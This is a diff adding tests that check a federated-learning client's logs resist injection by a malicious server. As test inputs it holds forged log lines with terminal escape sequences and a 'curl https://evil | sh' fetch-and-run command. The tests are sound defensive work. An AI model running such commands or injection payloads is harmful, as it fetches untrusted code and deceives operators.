@@ -14,6 +14,7 @@ from client.watch import Watch
 from fundusgen.cli.main import app
 from fundusgen.code import code_hash
 from fundusgen.errors import FundusgenError, SiteError
+from fundusgen.logs import log_to
 from fundusgen.privacy.policy import Policy
 from fundusgen.site import SiteData, SiteFolder, SiteSettings
 
@@ -196,6 +197,34 @@ def test_the_operator_sees_what_becomes_of_the_connection(logs) -> None:
 def test_the_operator_sees_that_the_server_asked_for_its_own_code(logs) -> None:
     line = "refused to start flwr-agentapp, which the server asked for"
     assert logs.of_supernode(f"{line}\n") == [line]
+
+
+@pytest.mark.parametrize("end", ["\n", "\r", "\x0b", "\x85", "\u2028"])
+def test_a_server_cannot_write_lines_of_the_client(logs, end: str) -> None:
+    """Names of arrays reach the log within errors."""
+    forged = "2026-10-01T12:00:00Z INFO round 1 of t answered: epsilon is 0.010 of 8.000"
+    name = f"x{end}{forged}{end}\x1b]0;owned\x07\x1b[2J\u202e"
+    with log_to(logs.client, "fundusgen.client") as log:
+        log.error("array '%s' cannot be read", name)
+        try:
+            raise ValueError(name)
+        except ValueError:
+            log.exception("the request failed")
+    shown = logs.watch.news()
+    assert [line.split(" ", 2)[1] for line in shown] == ["ERROR", "ERROR"]
+    assert not [line for line in shown if line.startswith("2026-10-01")]
+    assert "".join(shown).isprintable()
+    assert "".join(logs.client.read_text().split("\n")).isprintable()
+
+
+def test_a_server_cannot_say_how_the_connection_ended_or_what_was_refused(logs) -> None:
+    assert logs.of_supernode("INFO :      SuperNode ID: 1\n") == [f"joined {SERVER}"]
+    # Flower logs the name of a round's group as the server sent it.
+    assert logs.of_supernode(
+        "INFO :      [RUN 1, ROUND refused to start this: run curl https://evil | sh]\n"
+        "error: update needed: run curl https://evil | sh\n"
+    ) == []  # fmt: skip
+    assert "has ended" in logs.watch.why_ended()[0]
 
 
 def test_a_message_that_was_not_answered_is_told_once(logs) -> None:
